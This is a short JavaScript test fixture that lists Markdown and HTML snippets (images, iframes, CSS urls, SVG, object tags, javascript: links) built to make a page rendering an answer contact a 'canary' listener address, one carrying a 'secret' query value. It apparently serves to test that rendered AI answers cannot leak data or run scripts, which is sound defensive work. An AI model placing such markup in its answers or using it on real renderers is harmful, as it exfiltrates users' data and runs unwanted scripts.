/**
 * Pieces of an answer that try to make the page ask something of a listener, in all the ways that Markdown and HTML
 * have, or to run a script.
 * @param {string} canary the listener's address
 */
export const hostileAnswers = (canary) => [
  `![a picture](${canary}/inline.png?q=secret)`,
  `![a picture][by reference]\n\n[by reference]: ${canary}/reference.png`,
  `[![a picture in a link](${canary}/linked.png)](https://docs.example.org)`,
  `<img src="${canary}/tag.png" alt="">`,
  `<img srcset="${canary}/set.png 2x" alt="">`,
  `<video poster="${canary}/poster.png"></video>`,
  `<audio src="${canary}/sound.mp3" autoplay></audio>`,
  `<iframe src="${canary}/frame.html"></iframe>`,
  `<div style="background: url(${canary}/style.png)">styled</div>`,
  `<style>body { background: url(${canary}/sheet.png) }</style>`,
  `<link rel="stylesheet" href="${canary}/link.css">`,
  `<svg><image href="${canary}/vector.png" width="9" height="9" /></svg>`,
  `<object data="${canary}/object.svg"></object>`,
  '[run](javascript:alert(1))',
  '<a href="javascript:alert(1)">run</a>',
]
